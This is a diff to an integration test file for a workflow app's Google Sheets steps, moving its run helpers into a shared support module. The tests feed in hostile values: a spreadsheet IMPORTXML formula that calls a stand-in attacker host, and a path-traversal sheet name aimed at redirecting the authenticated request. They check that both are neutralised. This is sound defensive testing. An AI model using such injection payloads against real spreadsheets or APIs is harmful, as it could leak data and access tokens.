@@ -5,17 +5,10 @@
 // page tokens and the sheet picker, and hostile flows: a mapped spreadsheet id or sheet
 // name cannot move the request (and the token) off the spreadsheet's path.
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import type { TFlowDocument, TFlowNode } from "@/lib/flows/document";
-import { parseOutboundAllowList } from "@/lib/http/outbound-allow-list";
-import { createAppExecutors } from "@/lib/server/apps";
 import { listAppChoices } from "@/lib/server/apps/list-app-choices";
 import { sealConnectionSecret } from "@/lib/server/connections/connection-secret";
 import { getDb } from "@/lib/server/db";
-import { claimNextRun } from "@/lib/server/runs/embedded/claim-run";
-import { executeRun } from "@/lib/server/runs/embedded/execute-run";
-import { getRun } from "@/lib/server/runs/get-run";
-import { listRunSecrets } from "@/lib/server/runs/run-secrets";
-import { startRun } from "@/lib/server/runs/start-run";
+import { appFlowDocument, loopbackPolicy, runAppFlow, stepOf, type TAppFlowStep } from "../support/app-flow";
 import { GoogleSheetsStandin } from "../support/google-sheets-standin";
 import { seedPublishedFlow } from "../support/seed-flow";
 import { setupTestDatabase } from "../support/setup-test-database";
@@ -25,7 +18,6 @@ setupTestDatabase();
 const ACCESS_TOKEN = "ya29.a0AfH6SMBx-standin-access-token-0123456789abcdef";
 const SHEET_ID = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms";
 const PRIVATE_ID = "1PrivateSheetNotShared0000000000000000000000";
-const policy = () => ({ allow: parseOutboundAllowList("127.0.0.1/32") });
 let google: GoogleSheetsStandin;
 
 beforeAll(async () => {
@@ -54,17 +46,10 @@ beforeAll(async () => {
 });
 afterAll(() => google.stop());
 
-const node = (id: string, type: string, config: Record<string, unknown>): TFlowNode => ({ id, type, name: id, config, ui: { x: 0, y: 0 } }) as TFlowNode;
-
-async function seed(steps: { id: string; type: string; config: Record<string, unknown> }[]) {
+async function seed(steps: TAppFlowStep[]) {
   const db = getDb();
   const connectionId = crypto.randomUUID();
-  const document: TFlowDocument = {
-    schemaVersion: 1,
-    nodes: [node("trigger", "trigger.manual", {}), ...steps.map((step) => node(step.id, step.type, { connectionId, ...step.config }))],
-    edges: steps.map((step, index) => ({ id: `e${index}`, source: index === 0 ? "trigger" : steps[index - 1]!.id, target: step.id })),
-  };
-  const flow = await seedPublishedFlow(document, "sheets");
+  const flow = await seedPublishedFlow(appFlowDocument(steps, connectionId), "sheets");
   await db.connection.create({
     data: {
       id: connectionId,
@@ -91,14 +76,6 @@ async function seed(steps: { id: string; type: string; config: Record<string, un
   return { ...flow, connectionId };
 }
 
-async function run(seeded: { userId: string; flowId: string }, payload: unknown = {}) {
-  const { runId } = await startRun({ flowId: seeded.flowId, payload, trigger: "manual", userId: seeded.userId });
-  expect(await claimNextRun("w", 5)).toBe(runId);
-  const outcome = await executeRun(runId, { owner: "w", executors: createAppExecutors({ policy }), secretsFor: listRunSecrets });
-  return { outcome, runId, run: await getRun(seeded.userId, runId) };
-}
-
-const stepOf = (view: Awaited<ReturnType<typeof getRun>>, id: string) => view.steps.find((step) => step.nodeId === id)!;
 const SHEET = "Q1 'leads'";
 
 describe("Google Sheets steps", () => {
@@ -113,7 +90,7 @@ describe("Google Sheets steps", () => {
     ]);
     const before = google.requests.length;
     // A quote in a mapped value stays inside its cell: each string of the JSON is mapped on its own.
-    const { run: view } = await run(seeded, { name: '=IMPORTXML("https://evil.example", "//a")', email: "eve@example.com" });
+    const { run: view } = await runAppFlow(seeded, { name: '=IMPORTXML("https://evil.example", "//a")', email: "eve@example.com" });
     expect([view.status, view.error]).toEqual(["SUCCEEDED", null]);
     const sent = google.requests.slice(before);
     expect(sent.map((r) => `${r.method} ${decodeURIComponent(new URL(r.url, google.url).pathname)}`)).toEqual([
@@ -145,7 +122,7 @@ describe("Google Sheets steps", () => {
         config: { spreadsheetId: SHEET_ID, sheetName: "Archive", valuesMode: "list", values: "{{trigger.cells}}", valueInputOption: "USER_ENTERED" },
       },
     ]);
-    const { run: view } = await run(seeded, { cells: ["2026-12-07", 42, true] });
+    const { run: view } = await runAppFlow(seeded, { cells: ["2026-12-07", 42, true] });
     expect([view.status, view.error]).toEqual(["SUCCEEDED", null]);
     expect(google.sheet(SHEET_ID, "Archive")).toEqual([["2026-12-07", "42", "TRUE"]]);
     expect(google.valueInputOptions.at(-1)).toBe("USER_ENTERED");
@@ -155,7 +132,7 @@ describe("Google Sheets steps", () => {
     const seeded = await seed([
       { id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: SHEET_ID, sheetName: SHEET, column: "Name", value: "Ada", maxRows: 10 } },
     ]);
-    const { run: view } = await run(seeded);
+    const { run: view } = await runAppFlow(seeded);
     expect(stepOf(view, "find").record!.output).toMatchObject({
       count: 2,
       rowNumbers: [2, 4],
@@ -172,7 +149,7 @@ describe("Google Sheets steps", () => {
     ["a sheet name that does not exist", SHEET_ID, "Nope", /Unable to parse range: 'Nope'/],
   ])("fails clearly, without retrying, on %s", async (_, spreadsheetId, sheetName, message) => {
     const seeded = await seed([{ id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId, sheetName, column: "Name", value: "x" } }]);
-    const { run: view } = await run(seeded);
+    const { run: view } = await runAppFlow(seeded);
     expect(view.status).toBe("FAILED");
     expect(view.error).toMatch(message);
     expect(stepOf(view, "find").attempts).toBe(1);
@@ -183,7 +160,7 @@ describe("Google Sheets steps", () => {
       { id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: SHEET_ID, sheetName: SHEET, column: "Name", value: "Bob" } },
     ]);
     google.failNext(429, "RESOURCE_EXHAUSTED", "Quota exceeded for quota metric 'Read requests'", { "retry-after": "30" });
-    const { outcome, runId } = await run(seeded);
+    const { outcome, runId } = await runAppFlow(seeded);
     expect(outcome).toBe("suspended");
     const { wakeAt } = await getDb().flowRun.findUniqueOrThrow({ where: { id: runId }, select: { wakeAt: true } });
     expect(wakeAt!.getTime() - Date.now()).toBeGreaterThan(20_000);
@@ -203,7 +180,7 @@ describe("Google Sheets steps", () => {
         ),
       },
     });
-    const { run: view } = await run(seeded);
+    const { run: view } = await runAppFlow(seeded);
     expect(view.status).toBe("FAILED");
     expect(view.error).toMatch(/reconnect/i);
   });
@@ -217,7 +194,7 @@ describe("Google Sheets steps", () => {
       { id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: "{{trigger.id}}", sheetName, column: "Name", value: "x" } },
     ]);
     const before = google.requests.length;
-    const { run: view } = await run(seeded, { id: spreadsheetId });
+    const { run: view } = await runAppFlow(seeded, { id: spreadsheetId });
     expect(view.status).toBe("FAILED");
     expect(view.error).toMatch(/is not a spreadsheet ID/);
     expect(google.requests.length).toBe(before);
@@ -228,7 +205,7 @@ describe("Google Sheets steps", () => {
       { id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: SHEET_ID, sheetName: "{{trigger.sheet}}", column: "Name", value: "x" } },
     ]);
     const before = google.requests.length;
-    const { run: view } = await run(seeded, { sheet: "../../../../drive/v3/files?q=x#" });
+    const { run: view } = await runAppFlow(seeded, { sheet: "../../../../drive/v3/files?q=x#" });
     expect(view.status).toBe("FAILED");
     const sent = google.requests.slice(before);
     expect(sent).toHaveLength(1);
@@ -244,7 +221,7 @@ describe("Google Sheets steps", () => {
     const spreadsheets = await listAppChoices(
       seeded.userId,
       { connectionId: seeded.connectionId, nodeType: "app.google_sheets.lookup_rows", field: "spreadsheetId" },
-      { policy },
+      { policy: loopbackPolicy },
     );
     expect(spreadsheets).toEqual({
       isComplete: true,
@@ -260,10 +237,10 @@ describe("Google Sheets steps", () => {
     expect(listed[1]!.searchParams.get("pageToken")).toBe("page-2");
     // The sheet picker reads the chosen spreadsheet's tabs; without a chosen spreadsheet (or with a mapped one) it asks for one first.
     const sheets = { connectionId: seeded.connectionId, nodeType: "app.google_sheets.lookup_rows", field: "sheetName" };
-    await expect(listAppChoices(seeded.userId, { ...sheets, values: { spreadsheetId: "{{trigger.id}}" } }, { policy })).rejects.toThrow(
+    await expect(listAppChoices(seeded.userId, { ...sheets, values: { spreadsheetId: "{{trigger.id}}" } }, { policy: loopbackPolicy })).rejects.toThrow(
       /Choose the spreadsheet first/,
     );
-    expect(await listAppChoices(seeded.userId, { ...sheets, values: { spreadsheetId: SHEET_ID } }, { policy })).toEqual({
+    expect(await listAppChoices(seeded.userId, { ...sheets, values: { spreadsheetId: SHEET_ID } }, { policy: loopbackPolicy })).toEqual({
       isComplete: true,
       choices: [
         { value: SHEET, label: SHEET },
